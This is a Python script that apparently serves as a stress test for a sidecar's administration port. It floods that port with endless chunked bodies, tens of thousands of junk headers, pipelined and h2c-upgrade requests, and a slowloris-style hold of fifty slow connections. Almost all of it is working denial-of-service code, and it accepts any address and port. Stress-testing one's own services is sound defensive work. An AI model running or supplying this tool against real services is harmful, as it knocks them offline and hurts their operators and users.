"""A pod that attacks a sidecar's administration port in every way at once; standard library only.

python besieger.py ADDRESS PORT SECONDS
"""

import contextlib
import socket
import sys
import threading
import time

CHUNKED = b"POST /metrics HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n"
GET = b"GET %b HTTP/1.1\r\nhost: x\r\n%b\r\n"
OFFER = b"connection: upgrade\r\nupgrade: h2c\r\n"
ENDLESS = (
    (CHUNKED + b"0\r\n", b"a:1\r\n" * 10_000),
    (CHUNKED.replace(b"POST", b"GET") + b"0\r\n", b"a" * 65_536),
    (CHUNKED + b"1;", b"a=b;" * 10_000),
    (b"GET /metrics HTTP/1.1\r\n", b"a:\r\n" * 10_000),
    (b"", GET % (b"/metrics", b"") * 1000),
    (b"", GET % (b"/healthz/live", OFFER) * 1000),
)
"""A start, and what comes then until the sidecar ends it."""
HELD = 50
"""Connections that one attacker opens at a time and on which it says little."""


def flood(address: tuple[str, int], start: bytes, piece: bytes, until: float) -> None:
    """Send without end, again and again, reading nothing."""
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            client = socket.create_connection(address, timeout=2)
            with client:
                client.sendall(start)
                while time.monotonic() < until:
                    client.sendall(piece)


def hold(address: tuple[str, int], until: float) -> None:
    """Open many connections that send a head byte by byte."""
    while time.monotonic() < until:
        held = []
        for _ in range(HELD):
            with contextlib.suppress(OSError):
                held.append(socket.create_connection(address, timeout=2))
        for byte in GET % (b"/metrics", b"x-slow: yes\r\n"):
            for client in held:
                with contextlib.suppress(OSError):
                    client.sendall(bytes([byte]))
            time.sleep(0.1)
        for client in held:
            client.close()


def main() -> None:
    """Attack until the time is over."""
    address = sys.argv[1], int(sys.argv[2])
    until = time.monotonic() + float(sys.argv[3])
    threads = [threading.Thread(target=flood, args=(address, *it, until)) for it in ENDLESS]
    threads.append(threading.Thread(target=hold, args=(address, until)))
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


if __name__ == "__main__":
    main()
